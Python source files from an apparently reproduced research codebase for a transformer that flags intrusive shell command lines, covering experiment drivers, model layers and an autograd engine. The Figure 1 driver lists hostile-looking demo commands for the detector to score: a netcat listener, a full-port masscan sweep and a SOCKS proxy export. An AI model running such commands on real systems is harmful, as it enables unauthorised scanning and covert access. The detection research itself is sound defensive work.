    updated_model = CommandLineLM(lm_config)
    updated_model.load_state_dict(model.state_dict())
    updated_encoder = CommandEncoder(updated_model, tokenizer, pooling="mean")
    learner = ContinualLearner(updated_encoder, ids, seed=seed)
    learner._cumulative_labeled_lines.extend(labeled.lines)
    learner._cumulative_labels.extend(int(v) for v in labeled.labels)
    learner.update(week3)

    # Probe: week-4 OUT-OF-BOX miner variants (signatures miss these).
    sampler = AttackSampler(np.random.default_rng(seed + 99))
    probes = []
    while len(probes) < 6:
        probes.extend(sampler.sample(EMERGING_FAMILY, inbox=False))
    probes = probes[:6]
    return ContinualResult(
        frozen_scores=[float(s) for s in frozen.score(probes)],
        continual_scores=[float(s) for s in learner.score(probes)],
        probe_lines=probes,
    )


def main(config: WorldConfig | None = None) -> ContinualResult:
    """Run the three-week simulation and print the comparison."""
    result = run_continual(config)
    print(result.render())
    print(f"\nmean score lift from the weekly update: {result.mean_gain:+.3f} "
          "(paper's intro: the weekly loop exists to dig out future attacks)")
    return result


if __name__ == "__main__":
    main()
