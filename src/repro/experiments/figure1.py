"""Figure 1 — the end-to-end training and inference pipeline.

The figure depicts two paths: *training* (logging → pre-processing →
tokenization → pre-training → fine-tuning) and *inference* (logging →
pre-processing → tokenization → inference → intrusion yes/no).  This
driver exercises both paths on a fresh world and reports per-stage
statistics, finishing with live verdicts on a handful of commands.

Run with ``python -m repro.experiments.figure1``.
"""

from __future__ import annotations

import time
from dataclasses import dataclass, field

from repro.evaluation.reporting import format_table
from repro.experiments.common import World, WorldConfig, build_world
from repro.experiments.methods import training_subset
from repro.ids.threshold import calibrate_threshold
from repro.tuning.classification import ClassificationTuner

#: Commands used for the inference-path demonstration.
DEMO_COMMANDS = [
    "ls -la /var/log",
    "watch -n 1 nvidia-smi",
    "nc -ulp 31337",
    "sh /root/masscan.sh 203.0.113.50 -p 0-65535",
    'export https_proxy="socks5://198.51.100.20:1080"',
    "python main.py --verbose",
]


@dataclass
class Figure1Result:
    """Stage timings and the live inference verdicts."""

    stage_seconds: dict[str, float] = field(default_factory=dict)
    verdicts: list[tuple[str, float, bool]] = field(default_factory=list)
    threshold: float = 0.0

    def render(self) -> str:
        """Pipeline timing and verdict tables as text."""
        timing_rows = [[stage, f"{seconds:.2f}"] for stage, seconds in self.stage_seconds.items()]
        timing = format_table(["pipeline stage", "seconds"], timing_rows,
                              title="Figure 1 — training-path stages")
        verdict_rows = [
            [line[:60], f"{score:.3f}", "INTRUSION" if flagged else "benign"]
            for line, score, flagged in self.verdicts
        ]
        verdicts = format_table(
            ["command line", "score", "verdict"],
            verdict_rows,
            title=f"Figure 1 — inference path (threshold {self.threshold:.3f})",
        )
        return timing + "\n\n" + verdicts


def run_figure1(world: World, seed: int = 0) -> Figure1Result:
    """Exercise fine-tuning + inference on an already-built world.

    The world itself already timed logging/pre-processing/pre-training;
    this driver adds the fine-tuning and inference stages.
    """
    result = Figure1Result()
    result.stage_seconds["pre-training steps"] = float(world.pretrain_report.steps)

    start = time.perf_counter()
    subset = training_subset(world, seed)
    tuner = ClassificationTuner(world.encoder, lr=1e-2, epochs=5, pooling="mean", seed=seed)
    tuner.fit(subset.lines, subset.labels)
    result.stage_seconds["fine-tuning"] = time.perf_counter() - start

    start = time.perf_counter()
    test_scores = tuner.score(world.test_lines_dedup)
    result.stage_seconds["inference (dedup test set)"] = time.perf_counter() - start

    inbox_intrusions = world.inbox_mask & world.truth.astype(bool)
    result.threshold = calibrate_threshold(
        test_scores, inbox_intrusions, recall_target=world.config.recall_target
    )
    demo_scores = tuner.score(DEMO_COMMANDS)
    result.verdicts = [
        (line, float(score), bool(score >= result.threshold))
        for line, score in zip(DEMO_COMMANDS, demo_scores)
    ]
    return result


def main(config: WorldConfig | None = None) -> Figure1Result:
    """Build the world, run both pipeline paths, print the summary."""
    world = build_world(config)
    result = run_figure1(world)
    print(result.render())
    return result


if __name__ == "__main__":
    main()
