"""Table II — precision of the top-v out-of-box predictions (PO@v).

Paper's numbers:

======================  =======  =======
method                  PO@100   PO@1000
======================  =======  =======
Reconstruction          0.984    0.535
Classification          1.000    0.949
Classification (multi)  1.000    0.998
Retrieval               0.970    0.569
======================  =======  =======

At reproduction scale the two inspection depths are
``world.config.top_vs`` (defaults ``(25, 100)``): the corpus is ~3
orders of magnitude smaller than the paper's 10M lines, so fixed
v=100/1000 would exceed the number of out-of-box intrusions entirely
(see EXPERIMENTS.md).  Run with ``python -m repro.experiments.table2``.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.evaluation.metrics import precision_at_top_outbox
from repro.evaluation.reporting import format_table
from repro.evaluation.runs import Aggregate, aggregate
from repro.experiments.common import World, WorldConfig, build_world
from repro.experiments.methods import (
    run_classification,
    run_multiline,
    run_reconstruction,
    run_retrieval,
)

PAPER_TABLE2 = {
    "reconstruction": {"v1": "0.984 ± 0.032", "v2": "0.535 ± 0.092"},
    "classification": {"v1": "1.000 ± 0.000", "v2": "0.949 ± 0.003"},
    "classification (multi)": {"v1": "1.000 ± 0.000", "v2": "0.998 ± 0.001"},
    "retrieval": {"v1": "0.970", "v2": "0.569"},
}


@dataclass
class Table2Result:
    """Aggregated PO@v metrics (keys are method names)."""

    v1: int
    v2: int
    po_at_v1: dict[str, Aggregate | float] = field(default_factory=dict)
    po_at_v2: dict[str, Aggregate | float] = field(default_factory=dict)
    n_runs: int = 1

    @staticmethod
    def _fmt(value: Aggregate | float) -> str:
        return str(value) if isinstance(value, Aggregate) else f"{value:.3f}"

    def render(self) -> str:
        """The comparison table as text."""
        rows = []
        paper_keys = {
            "reconstruction": "reconstruction",
            "classification": "classification",
            "classification (multi)": "classification (multi)",
            "retrieval": "retrieval",
        }
        for method in ("reconstruction", "classification", "classification (multi)", "retrieval"):
            paper = PAPER_TABLE2[paper_keys[method]]
            rows.append([
                method,
                self._fmt(self.po_at_v1[method]),
                self._fmt(self.po_at_v2[method]),
                paper["v1"],
                paper["v2"],
            ])
        return format_table(
            ["method", f"PO@{self.v1} (ours)", f"PO@{self.v2} (ours)",
             "PO@100 (paper)", "PO@1000 (paper)"],
            rows,
            title=f"Table II — top-v out-of-box precision ({self.n_runs} runs)",
        )


def run_table2(world: World, n_runs: int = 5) -> Table2Result:
    """Reproduce Table II on an already-built world."""
    v1, v2 = world.config.top_vs
    result = Table2Result(v1=v1, v2=v2, n_runs=n_runs)
    collected: dict[str, tuple[list[float], list[float]]] = {
        "reconstruction": ([], []),
        "classification": ([], []),
        "classification (multi)": ([], []),
    }
    for run in range(n_runs):
        scores = run_reconstruction(world, seed=run)
        collected["reconstruction"][0].append(
            precision_at_top_outbox(scores, world.truth, world.inbox_mask, v1))
        collected["reconstruction"][1].append(
            precision_at_top_outbox(scores, world.truth, world.inbox_mask, v2))
        scores = run_classification(world, seed=run)
        collected["classification"][0].append(
            precision_at_top_outbox(scores, world.truth, world.inbox_mask, v1))
        collected["classification"][1].append(
            precision_at_top_outbox(scores, world.truth, world.inbox_mask, v2))
        scores, evaluation = run_multiline(world, seed=run)
        collected["classification (multi)"][0].append(
            precision_at_top_outbox(scores, evaluation.truth, evaluation.inbox_mask, v1))
        collected["classification (multi)"][1].append(
            precision_at_top_outbox(scores, evaluation.truth, evaluation.inbox_mask, v2))
    for method, (v1_values, v2_values) in collected.items():
        result.po_at_v1[method] = aggregate(v1_values)
        result.po_at_v2[method] = aggregate(v2_values)
    retrieval_scores = run_retrieval(world)
    result.po_at_v1["retrieval"] = precision_at_top_outbox(
        retrieval_scores, world.truth, world.inbox_mask, v1)
    result.po_at_v2["retrieval"] = precision_at_top_outbox(
        retrieval_scores, world.truth, world.inbox_mask, v2)
    return result


def main(config: WorldConfig | None = None, n_runs: int = 5) -> Table2Result:
    """Build the world, reproduce Table II, print it."""
    world = build_world(config)
    result = run_table2(world, n_runs=n_runs)
    print(result.render())
    return result


if __name__ == "__main__":
    main()
