"""Ablations over the design choices the paper calls out.

Each ablation isolates one knob the paper fixes by fiat and sweeps it:

- ``retrieval_k`` — "for retrieval, we performed 1NN" (k ∈ {1, 3, 5}).
- ``retrieval_vs_majority`` — the Section IV-D innovation: modified
  malicious-only retrieval vs the vanilla majority-vote kNN.
- ``pca_variance`` — "we let 95% of components to be kept by PCA".
- ``multiline_window`` — "three temporally contiguous command lines".
- ``pooling`` — CLS vs mean command-line embeddings (Sections III/IV-B).
- ``ensemble`` — the Section V-C future-work suggestion: fusing all
  methods.

Run with ``python -m repro.experiments.ablations``.
"""

from __future__ import annotations

from dataclasses import dataclass, field

import numpy as np

from repro.anomaly.pca import PCAReconstructionDetector
from repro.evaluation.metrics import evaluate_method, precision_at_top_outbox
from repro.evaluation.reporting import format_table
from repro.experiments.common import World, WorldConfig, build_world
from repro.experiments.methods import (
    run_classification,
    run_majority_knn,
    run_multiline,
    run_retrieval,
)
from repro.tuning.ensemble import rank_normalize


@dataclass
class AblationResult:
    """One table per ablated knob: rows of (setting, metric columns)."""

    tables: dict[str, list[list[str]]] = field(default_factory=dict)
    headers: dict[str, list[str]] = field(default_factory=dict)

    def render(self) -> str:
        """All ablation tables as text."""
        blocks = []
        for name, rows in self.tables.items():
            blocks.append(format_table(self.headers[name], rows, title=f"Ablation — {name}"))
        return "\n\n".join(blocks)


def _eval_row(world: World, setting: str, scores: np.ndarray) -> list[str]:
    v1, v2 = world.config.top_vs
    ev = evaluate_method(setting, scores, world.truth, world.inbox_mask,
                         recall_target=world.config.recall_target, top_vs=(v1, v2))
    return [setting, f"{ev.po:.3f}", f"{ev.poi:.3f}", f"{ev.po_at[v1]:.3f}", f"{ev.po_at[v2]:.3f}"]


def run_ablations(world: World, seed: int = 0) -> AblationResult:
    """Sweep every ablated knob on an already-built world."""
    v1, v2 = world.config.top_vs
    metric_headers = ["setting", "PO", "PO&I", f"PO@{v1}", f"PO@{v2}"]
    result = AblationResult()

    # -- retrieval k and the majority-vote comparison ------------------------
    rows = [_eval_row(world, f"modified retrieval, k={k}", run_retrieval(world, k=k)) for k in (1, 3, 5)]
    rows.extend(
        _eval_row(world, f"majority-vote kNN, k={k}", run_majority_knn(world, k=k)) for k in (1, 5)
    )
    result.tables["retrieval scoring (Sec. IV-D innovation)"] = rows
    result.headers["retrieval scoring (Sec. IV-D innovation)"] = metric_headers

    # -- PCA variance kept (unsupervised scoring path) ------------------------
    from repro.experiments.baselines import ranking_auc

    train_embeddings = world.encoder.embed(world.train.lines())
    test_embeddings = world.encoder.embed(world.test_lines_dedup)
    rows = []
    for kept in (0.80, 0.90, 0.95, 0.99):
        detector = PCAReconstructionDetector(variance_kept=kept).fit(train_embeddings)
        scores = detector.score(test_embeddings)
        auc = ranking_auc(scores, world.truth)
        rows.append([f"variance kept {kept:.2f}", f"{detector.n_components_}", f"{auc:.3f}"])
    result.tables["PCA variance kept (unsupervised)"] = rows
    result.headers["PCA variance kept (unsupervised)"] = ["setting", "components", "AUC"]

    # -- exact vs structural test-set dedup (Sec. V protocol choice) ------------
    from repro.shell.unparse import structural_key

    exact = len(world.test_dedup)
    structural_keys = {structural_key(line) for line in world.test.lines()}
    rows = [
        ["exact line dedup (paper)", f"{len(world.test)}", f"{exact}"],
        ["structural dedup (names+flags)", f"{len(world.test)}", f"{len(structural_keys)}"],
    ]
    result.tables["test-set de-duplication granularity (Sec. V)"] = rows
    result.headers["test-set de-duplication granularity (Sec. V)"] = ["setting", "raw lines", "kept"]

    # -- multi-line context width --------------------------------------------------
    rows = []
    for window in (1, 2, 3, 5):
        scores, evaluation = run_multiline(world, seed=seed, window=window)
        precision_v1 = precision_at_top_outbox(scores, evaluation.truth, evaluation.inbox_mask, v1)
        precision_v2 = precision_at_top_outbox(scores, evaluation.truth, evaluation.inbox_mask, v2)
        rows.append([f"window={window}", f"{precision_v1:.3f}", f"{precision_v2:.3f}"])
    result.tables["multi-line context width (Sec. IV-C)"] = rows
    result.headers["multi-line context width (Sec. IV-C)"] = ["setting", f"PO@{v1}", f"PO@{v2}"]

    # -- pooling strategy ----------------------------------------------------------
    rows = [
        _eval_row(world, f"pooling={pooling}", run_classification(world, seed=seed, pooling=pooling))
        for pooling in ("mean", "cls")
    ]
    result.tables["embedding pooling (Sec. III)"] = rows
    result.headers["embedding pooling (Sec. III)"] = metric_headers

    # -- ensemble (Sec. V-C future work) ----------------------------------------
    classification_scores = run_classification(world, seed=seed)
    retrieval_scores = run_retrieval(world)
    fused = (rank_normalize(classification_scores) + rank_normalize(retrieval_scores)) / 2.0
    rows = [
        _eval_row(world, "classification alone", classification_scores),
        _eval_row(world, "retrieval alone", retrieval_scores),
        _eval_row(world, "ensemble (mean rank)", fused),
    ]
    result.tables["ensemble of methods (Sec. V-C)"] = rows
    result.headers["ensemble of methods (Sec. V-C)"] = metric_headers

    return result


def main(config: WorldConfig | None = None) -> AblationResult:
    """Build the world, sweep all ablations, print the tables."""
    world = build_world(config)
    result = run_ablations(world)
    print(result.render())
    return result


if __name__ == "__main__":
    main()
