"""Core neural-network layers: Linear, Embedding, LayerNorm, Dropout, MLP."""

from __future__ import annotations

import numpy as np

from repro.nn import functional as F
from repro.nn import init
from repro.nn.module import Module, Parameter
from repro.nn.tensor import Array, Tensor


class Linear(Module):
    """Affine map ``y = x W + b``.

    Parameters
    ----------
    in_features, out_features:
        Input/output widths.
    rng:
        Generator used for initialization.
    bias:
        Whether to learn an additive bias (default true).
    init_scheme:
        ``"kaiming"`` (He-uniform, used by the paper's classification
        head), ``"xavier"``, or ``"bert"`` (truncated normal, std 0.02).
    """

    def __init__(
        self,
        in_features: int,
        out_features: int,
        rng: np.random.Generator,
        bias: bool = True,
        init_scheme: str = "bert",
    ):
        super().__init__()
        if init_scheme == "kaiming":
            weight = init.kaiming_uniform((in_features, out_features), rng)
        elif init_scheme == "xavier":
            weight = init.xavier_uniform((in_features, out_features), rng)
        elif init_scheme == "bert":
            weight = init.truncated_normal((in_features, out_features), rng)
        else:
            raise ValueError(f"unknown init scheme {init_scheme!r}")
        self.weight = Parameter(weight, name="weight")
        self.bias = Parameter(np.zeros(out_features), name="bias") if bias else None
        self.in_features = in_features
        self.out_features = out_features

    def forward(self, x: Tensor) -> Tensor:
        out = x @ self.weight
        if self.bias is not None:
            out = out + self.bias
        return out


class Embedding(Module):
    """Lookup table mapping integer ids to dense vectors."""

    def __init__(self, num_embeddings: int, embedding_dim: int, rng: np.random.Generator, std: float = 0.02):
        super().__init__()
        self.weight = Parameter(init.truncated_normal((num_embeddings, embedding_dim), rng, std=std), name="weight")
        self.num_embeddings = num_embeddings
        self.embedding_dim = embedding_dim

    def forward(self, ids: Array) -> Tensor:
        ids = np.asarray(ids)
        if ids.size and (ids.min() < 0 or ids.max() >= self.num_embeddings):
            raise IndexError(
                f"embedding ids out of range [0, {self.num_embeddings}): "
                f"min={ids.min()}, max={ids.max()}"
            )
        return F.embedding(self.weight, ids)


class LayerNorm(Module):
    """Layer normalization over the last axis with learned scale/shift."""

    def __init__(self, normalized_shape: int, eps: float = 1e-5):
        super().__init__()
        self.gamma = Parameter(np.ones(normalized_shape), name="gamma")
        self.beta = Parameter(np.zeros(normalized_shape), name="beta")
        self.eps = eps

    def forward(self, x: Tensor) -> Tensor:
        return F.layer_norm(x, self.gamma, self.beta, eps=self.eps)


class Dropout(Module):
    """Inverted dropout; inactive in ``eval`` mode.

    Each instance owns a :class:`numpy.random.Generator` so masks are
    reproducible given the construction seed.
    """

    def __init__(self, p: float, rng: np.random.Generator | None = None):
        super().__init__()
        if not 0.0 <= p < 1.0:
            raise ValueError("dropout probability must be in [0, 1)")
        self.p = p
        self._rng = rng if rng is not None else np.random.default_rng(0)

    def forward(self, x: Tensor) -> Tensor:
        # eval / p=0 is the identity: hand back the same Tensor with no
        # RNG draw, mask, or copy (the serving hot path calls this on
        # every block in eval mode)
        if not self.training or self.p <= 0.0:
            return x
        return F.dropout(x, self.p, self._rng, training=True)


class MLP(Module):
    """A two-layer perceptron head: ``Linear → activation → Linear``.

    This is the classification head of Section IV-B: "a two-layer
    perceptron initialized by Kaiming's method".
    """

    def __init__(
        self,
        in_features: int,
        hidden_features: int,
        out_features: int,
        rng: np.random.Generator,
        activation: str = "relu",
        init_scheme: str = "kaiming",
    ):
        super().__init__()
        self.fc1 = Linear(in_features, hidden_features, rng, init_scheme=init_scheme)
        self.fc2 = Linear(hidden_features, out_features, rng, init_scheme=init_scheme)
        if activation not in ("relu", "gelu", "tanh"):
            raise ValueError(f"unknown activation {activation!r}")
        self.activation = activation

    def forward(self, x: Tensor) -> Tensor:
        hidden = self.fc1(x)
        if self.activation == "relu":
            hidden = hidden.relu()
        elif self.activation == "gelu":
            hidden = F.gelu(hidden)
        else:
            hidden = hidden.tanh()
        return self.fc2(hidden)
