"""Checkpoint IO for modules (``.npz`` on disk)."""

from __future__ import annotations

from pathlib import Path

import numpy as np

from repro.errors import CheckpointError
from repro.nn.module import Module


def save_module(module: Module, path: str | Path) -> None:
    """Write *module*'s parameters to *path* as a compressed ``.npz``."""
    state = module.state_dict()
    try:
        np.savez_compressed(Path(path), **state)
    except OSError as exc:
        raise CheckpointError(f"cannot write checkpoint to {path}: {exc}") from exc


def load_module(module: Module, path: str | Path) -> None:
    """Restore *module*'s parameters from a checkpoint written by
    :func:`save_module`.

    Raises
    ------
    CheckpointError
        If the file is unreadable or incompatible with the module.
    """
    path = Path(path)
    if path.suffix != ".npz":
        candidate = path.with_suffix(path.suffix + ".npz")
        if candidate.exists():
            path = candidate
    try:
        with np.load(path) as archive:
            state = {key: archive[key] for key in archive.files}
    except OSError as exc:
        raise CheckpointError(f"cannot read checkpoint from {path}: {exc}") from exc
    module.load_state_dict(state)
