"""A small reverse-mode automatic-differentiation engine over numpy.

The paper pre-trains and fine-tunes a transformer with backpropagation
and stochastic gradient descent (Section II-B).  Rather than mocking the
training stack, this module implements it: a :class:`Tensor` records the
operations applied to it and :meth:`Tensor.backward` replays the tape in
reverse topological order, accumulating gradients.

Design notes
------------
- ``float64`` is the default dtype: the models in this reproduction are
  small, and double precision keeps numerical gradient checks tight.
- Broadcasting follows numpy; :func:`_unbroadcast` folds gradients back
  onto parameter shapes.
- Fused primitives (softmax, layer-norm statistics, cross-entropy) get
  hand-written backward rules for speed and stability; everything else
  composes.
"""

from __future__ import annotations

from collections.abc import Sequence

import numpy as np

Array = np.ndarray


def _as_array(value: "Tensor | Array | float | int", dtype=np.float64) -> Array:
    if isinstance(value, Tensor):
        raise TypeError("expected raw array/scalar, got Tensor")
    return np.asarray(value, dtype=dtype)


def _unbroadcast(grad: Array, shape: tuple[int, ...]) -> Array:
    """Sum *grad* over axes that were broadcast to reach ``grad.shape``."""
    if grad.shape == shape:
        return grad
    # Sum leading axes added by broadcasting.
    extra = grad.ndim - len(shape)
    if extra > 0:
        grad = grad.sum(axis=tuple(range(extra)))
    # Sum axes where the original dimension was 1.
    axes = tuple(i for i, dim in enumerate(shape) if dim == 1 and grad.shape[i] != 1)
    if axes:
        grad = grad.sum(axis=axes, keepdims=True)
    return grad.reshape(shape)


class Tensor:
    """A numpy array with gradient tracking.

    Attributes
    ----------
    data:
        The underlying ``numpy.ndarray``.
    grad:
        Accumulated gradient (same shape as ``data``), or ``None``.
    requires_grad:
        Whether backward passes should accumulate into ``grad``.
    """

    __slots__ = ("data", "grad", "requires_grad", "_backward", "_parents", "name")

    def __init__(
        self,
        data: "Array | float | int | Sequence",
        requires_grad: bool = False,
        name: str | None = None,
    ):
        self.data = np.asarray(data, dtype=np.float64)
        self.grad: Array | None = None
        self.requires_grad = requires_grad
        self._backward = None
        self._parents: tuple[Tensor, ...] = ()
        self.name = name

    # ------------------------------------------------------------------
    # Introspection
    # ------------------------------------------------------------------

    @property
    def shape(self) -> tuple[int, ...]:
        """Shape of the underlying array."""
        return self.data.shape

    @property
    def ndim(self) -> int:
        """Number of array dimensions."""
        return self.data.ndim

    @property
    def size(self) -> int:
        """Total number of elements."""
        return self.data.size

    def item(self) -> float:
        """The scalar value of a single-element tensor.

        Raises
        ------
        ValueError
            If the tensor holds more than one element.
        """
        if self.data.size != 1:
            raise ValueError(f"item() requires a single-element tensor, got shape {self.shape}")
        return float(self.data.reshape(-1)[0])

    def numpy(self) -> Array:
        """The raw data array (no copy)."""
        return self.data

    def detach(self) -> "Tensor":
        """A new tensor sharing data but outside the autograd graph."""
        return Tensor(self.data, requires_grad=False)

    def __repr__(self) -> str:
        label = f" name={self.name!r}" if self.name else ""
        return f"Tensor(shape={self.shape}, requires_grad={self.requires_grad}{label})"

    # ------------------------------------------------------------------
    # Graph bookkeeping
    # ------------------------------------------------------------------

    @staticmethod
    def _make(data: Array, parents: tuple["Tensor", ...], backward) -> "Tensor":
        out = Tensor(data)
        if any(p.requires_grad for p in parents):
            out.requires_grad = True
            out._parents = parents
            out._backward = backward
        return out

    def _accumulate(self, grad: Array) -> None:
        if not self.requires_grad:
            return
        if self.grad is None:
            self.grad = np.zeros_like(self.data)
        self.grad += grad

    def backward(self, grad: Array | None = None) -> None:
        """Backpropagate from this tensor.

        Parameters
        ----------
        grad:
            Seed gradient; defaults to ones (scalar outputs use 1.0).
        """
        if grad is None:
            grad = np.ones_like(self.data)
        topo: list[Tensor] = []
        visited: set[int] = set()
        stack: list[tuple[Tensor, bool]] = [(self, False)]
        while stack:
            node, processed = stack.pop()
            if processed:
                topo.append(node)
                continue
            if id(node) in visited:
                continue
            visited.add(id(node))
            stack.append((node, True))
            for parent in node._parents:
                if id(parent) not in visited:
                    stack.append((parent, False))
        grads: dict[int, Array] = {id(self): np.asarray(grad, dtype=np.float64)}
        for node in reversed(topo):
            node_grad = grads.pop(id(node), None)
            if node_grad is None:
                continue
            if node.requires_grad and node._backward is None:
                node._accumulate(node_grad)
            if node._backward is None:
                continue
            parent_grads = node._backward(node_grad)
            for parent, pgrad in zip(node._parents, parent_grads):
                if pgrad is None or not (parent.requires_grad or parent._backward is not None):
                    continue
                key = id(parent)
                if key in grads:
                    grads[key] = grads[key] + pgrad
                else:
                    grads[key] = pgrad

    # ------------------------------------------------------------------
    # Arithmetic
    # ------------------------------------------------------------------

    def _coerce(self, other) -> "Tensor":
        return other if isinstance(other, Tensor) else Tensor(other)

    def __add__(self, other) -> "Tensor":
        other = self._coerce(other)
        data = self.data + other.data

        def backward(grad: Array):
            return (_unbroadcast(grad, self.shape), _unbroadcast(grad, other.shape))

        return Tensor._make(data, (self, other), backward)

    __radd__ = __add__

    def __neg__(self) -> "Tensor":
        def backward(grad: Array):
            return (-grad,)

        return Tensor._make(-self.data, (self,), backward)

    def __sub__(self, other) -> "Tensor":
        other = self._coerce(other)
        data = self.data - other.data

        def backward(grad: Array):
            return (_unbroadcast(grad, self.shape), _unbroadcast(-grad, other.shape))

        return Tensor._make(data, (self, other), backward)

    def __rsub__(self, other) -> "Tensor":
        return self._coerce(other).__sub__(self)

    def __mul__(self, other) -> "Tensor":
        other = self._coerce(other)
        data = self.data * other.data

        def backward(grad: Array):
            return (
                _unbroadcast(grad * other.data, self.shape),
                _unbroadcast(grad * self.data, other.shape),
            )

        return Tensor._make(data, (self, other), backward)

    __rmul__ = __mul__

    def __truediv__(self, other) -> "Tensor":
        other = self._coerce(other)
        data = self.data / other.data

        def backward(grad: Array):
            return (
                _unbroadcast(grad / other.data, self.shape),
                _unbroadcast(-grad * self.data / (other.data**2), other.shape),
            )

        return Tensor._make(data, (self, other), backward)

    def __rtruediv__(self, other) -> "Tensor":
        return self._coerce(other).__truediv__(self)

    def __pow__(self, exponent: float) -> "Tensor":
        if not isinstance(exponent, (int, float)):
            raise TypeError("only scalar exponents are supported")
        data = self.data**exponent

        def backward(grad: Array):
            return (grad * exponent * self.data ** (exponent - 1),)

        return Tensor._make(data, (self,), backward)

    def __matmul__(self, other) -> "Tensor":
        other = self._coerce(other)
        data = self.data @ other.data

        def backward(grad: Array):
            a, b = self.data, other.data
            if a.ndim == 1 and b.ndim == 1:
                return (grad * b, grad * a)
            if a.ndim == 1:  # (k,) @ (..., k, n)
                ga = _unbroadcast((np.expand_dims(grad, -2) @ np.swapaxes(b, -1, -2)).squeeze(-2), a.shape)
                gb = _unbroadcast(np.expand_dims(a, -1) @ np.expand_dims(grad, -2), b.shape)
                return (ga, gb)
            if b.ndim == 1:  # (..., m, k) @ (k,)
                ga = _unbroadcast(np.expand_dims(grad, -1) @ np.expand_dims(b, -2), a.shape)
                gb = _unbroadcast((np.swapaxes(a, -1, -2) @ np.expand_dims(grad, -1)).squeeze(-1), b.shape)
                return (ga, gb)
            ga = _unbroadcast(grad @ np.swapaxes(b, -1, -2), a.shape)
            gb = _unbroadcast(np.swapaxes(a, -1, -2) @ grad, b.shape)
            return (ga, gb)

        return Tensor._make(data, (self, other), backward)

    # ------------------------------------------------------------------
    # Shape ops
    # ------------------------------------------------------------------

    def reshape(self, *shape: int) -> "Tensor":
        """Reshape, differentiable."""
        if len(shape) == 1 and isinstance(shape[0], (tuple, list)):
            shape = tuple(shape[0])
        original = self.shape
        data = self.data.reshape(shape)

        def backward(grad: Array):
            return (grad.reshape(original),)

        return Tensor._make(data, (self,), backward)

    def transpose(self, *axes: int) -> "Tensor":
        """Permute axes, differentiable."""
        order = axes if axes else tuple(reversed(range(self.ndim)))
        if len(order) == 1 and isinstance(order[0], (tuple, list)):
            order = tuple(order[0])
        inverse = np.argsort(order)
        data = self.data.transpose(order)

        def backward(grad: Array):
            return (grad.transpose(inverse),)

        return Tensor._make(data, (self,), backward)

    def swapaxes(self, axis1: int, axis2: int) -> "Tensor":
        """Swap two axes, differentiable."""
        data = np.swapaxes(self.data, axis1, axis2)

        def backward(grad: Array):
            return (np.swapaxes(grad, axis1, axis2),)

        return Tensor._make(data, (self,), backward)

    def __getitem__(self, key) -> "Tensor":
        data = self.data[key]
        shape = self.shape

        def backward(grad: Array):
            full = np.zeros(shape, dtype=np.float64)
            np.add.at(full, key, grad)
            return (full,)

        return Tensor._make(data, (self,), backward)

    # ------------------------------------------------------------------
    # Reductions
    # ------------------------------------------------------------------

    def sum(self, axis=None, keepdims: bool = False) -> "Tensor":
        """Sum over *axis*, differentiable."""
        data = self.data.sum(axis=axis, keepdims=keepdims)
        shape = self.shape

        def backward(grad: Array):
            g = np.asarray(grad)
            if axis is not None and not keepdims:
                axes = axis if isinstance(axis, tuple) else (axis,)
                for ax in sorted(a % len(shape) for a in axes):
                    g = np.expand_dims(g, ax)
            return (np.broadcast_to(g, shape).copy(),)

        return Tensor._make(data, (self,), backward)

    def mean(self, axis=None, keepdims: bool = False) -> "Tensor":
        """Mean over *axis*, differentiable."""
        if axis is None:
            count = self.size
        else:
            axes = axis if isinstance(axis, tuple) else (axis,)
            count = 1
            for ax in axes:
                count *= self.shape[ax]
        return self.sum(axis=axis, keepdims=keepdims) * (1.0 / count)

    def max(self, axis: int, keepdims: bool = False) -> "Tensor":
        """Maximum along one axis, differentiable (gradient to argmax)."""
        data = self.data.max(axis=axis, keepdims=keepdims)

        def backward(grad: Array):
            expanded = grad if keepdims else np.expand_dims(grad, axis)
            maxed = self.data.max(axis=axis, keepdims=True)
            mask = (self.data == maxed).astype(np.float64)
            mask /= mask.sum(axis=axis, keepdims=True)
            return (mask * expanded,)

        return Tensor._make(data, (self,), backward)

    # ------------------------------------------------------------------
    # Elementwise nonlinearities
    # ------------------------------------------------------------------

    def exp(self) -> "Tensor":
        """Elementwise exponential."""
        data = np.exp(self.data)

        def backward(grad: Array):
            return (grad * data,)

        return Tensor._make(data, (self,), backward)

    def log(self) -> "Tensor":
        """Elementwise natural logarithm."""
        data = np.log(self.data)

        def backward(grad: Array):
            return (grad / self.data,)

        return Tensor._make(data, (self,), backward)

    def sqrt(self) -> "Tensor":
        """Elementwise square root."""
        data = np.sqrt(self.data)

        def backward(grad: Array):
            return (grad * 0.5 / data,)

        return Tensor._make(data, (self,), backward)

    def tanh(self) -> "Tensor":
        """Elementwise hyperbolic tangent."""
        data = np.tanh(self.data)

        def backward(grad: Array):
            return (grad * (1.0 - data**2),)

        return Tensor._make(data, (self,), backward)

    def relu(self) -> "Tensor":
        """Rectified linear unit."""
        data = np.maximum(self.data, 0.0)

        def backward(grad: Array):
            return (grad * (self.data > 0.0),)

        return Tensor._make(data, (self,), backward)

    def sigmoid(self) -> "Tensor":
        """Logistic sigmoid."""
        data = 1.0 / (1.0 + np.exp(-self.data))

        def backward(grad: Array):
            return (grad * data * (1.0 - data),)

        return Tensor._make(data, (self,), backward)


def zeros(*shape: int, requires_grad: bool = False) -> Tensor:
    """A tensor of zeros."""
    return Tensor(np.zeros(shape), requires_grad=requires_grad)


def ones(*shape: int, requires_grad: bool = False) -> Tensor:
    """A tensor of ones."""
    return Tensor(np.ones(shape), requires_grad=requires_grad)
