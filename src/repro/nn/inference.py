"""Compiled inference: graph-free, buffer-reusing forward kernels.

Every serving-time forward pass used to execute through the float64
reverse-mode autograd tape in :mod:`repro.nn.tensor` — per-op ``Tensor``
wrappers, per-op output allocation, eval-mode ``Dropout`` calls, and one
tiny stacked BLAS call per batch row for every linear layer.  Under
``no_grad`` none of that buys anything: the graph is never built, the
dropout masks are never drawn, and the per-op overhead *is* the cost.

:class:`InferencePlan` compiles a trained
:class:`~repro.lm.model.CommandLineLM` once into straight-line numpy:

- **weights as raw contiguous arrays** — on the float32 hot path the
  query/key/value projections of every layer are prepacked into one
  fused ``(D, 3D)`` matrix, so a layer's QKV projection is a single GEMM
  over the flattened ``(B*T, D)`` activations (float64 keeps the tape's
  per-projection batched call shapes — see below);
- **per-shape-bucket scratch buffers** — every intermediate (hidden
  states, attention scores, FFN activations) lives in a preallocated
  buffer keyed by the ``(batch, seq)`` shape and reused across batches,
  so the steady-state forward allocates nothing per op;
- **eval-mode structure folded out at compile time** — dropout layers
  vanish entirely, layer norms run as five in-place ufuncs, and the
